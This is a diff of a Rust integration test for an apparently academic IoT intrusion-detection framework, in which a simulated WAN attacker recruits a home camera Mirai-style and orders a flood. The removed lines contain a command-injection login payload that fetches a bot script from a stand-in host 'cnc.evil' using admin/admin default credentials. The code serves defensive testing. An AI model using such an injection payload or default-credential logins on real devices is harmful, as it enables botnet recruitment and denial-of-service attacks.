@@ -2,12 +2,13 @@
 //! the full home pipeline, the headline cross-layer result, and the
 //! contracts the table/figure harnesses rely on.
 
+use xlf::attacks::mirai::recruit_login;
 use xlf::core::alerts::Severity;
 use xlf::core::correlation::{CorrelationConfig, CorrelationEngine};
 use xlf::core::evidence::Layer;
 use xlf::core::framework::{HomeDevice, XlfConfig, XlfHome};
 use xlf::device::{SensorKind, VulnSet, Vulnerability};
-use xlf::simnet::{Context, Duration, Medium, Node, NodeId, Packet, SimTime, TimerId};
+use xlf::simnet::{Context, Duration, Kind, Medium, Node, NodeId, Packet, SimTime, TimerId};
 
 /// WAN attacker that recruits the camera and orders a flood.
 struct BotnetAttacker {
@@ -23,22 +24,16 @@ impl Node for BotnetAttacker {
     fn on_timer(&mut self, ctx: &mut Context<'_>, _t: TimerId, tag: u64) {
         match tag {
             1 => {
-                let login = Packet::new(
-                    ctx.id(),
-                    self.gateway,
-                    "login",
-                    b"wget${IFS}http://cnc.evil/bot.sh".to_vec(),
-                )
-                .with_meta("device", "cam")
-                .with_meta("user", "admin")
-                .with_meta("pass", "admin");
+                let login = recruit_login(ctx.id(), self.gateway, "cam");
                 ctx.send(self.gateway, login);
             }
             2 => {
-                let order = Packet::new(ctx.id(), self.gateway, "attack-cmd", Vec::new())
-                    .with_meta("device", "cam")
-                    .with_meta("target", &self.victim.raw().to_string())
-                    .with_meta("count", "200");
+                let kind = Kind::AttackCmd {
+                    target: self.victim,
+                    count: 200,
+                };
+                let order =
+                    Packet::new(ctx.id(), self.gateway, kind, Vec::new()).with_device("cam");
                 ctx.send(self.gateway, order);
             }
             _ => {}
@@ -51,7 +46,7 @@ struct FloodCounter {
 }
 impl Node for FloodCounter {
     fn on_packet(&mut self, _ctx: &mut Context<'_>, packet: Packet) {
-        if packet.kind == "ddos" {
+        if packet.kind == Kind::Ddos {
             self.hits += 1;
         }
     }
